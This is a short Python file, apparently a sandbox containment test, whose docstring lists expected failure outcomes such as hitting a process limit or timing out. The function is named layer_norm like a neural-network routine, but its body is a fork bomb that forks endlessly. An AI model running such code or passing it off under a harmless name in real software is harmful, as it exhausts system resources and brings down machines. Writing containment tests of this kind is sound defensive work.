"""Forks as fast as it can, in every process.

Unconfined: never, it would take the machine
Outcome: started more processes than allowed|BlockingIOError|took longer than|did not return within
"""

import os


def layer_norm(x, gamma, beta, eps=1e-5):
    while True:
        try:
            os.fork()
        except OSError:
            pass
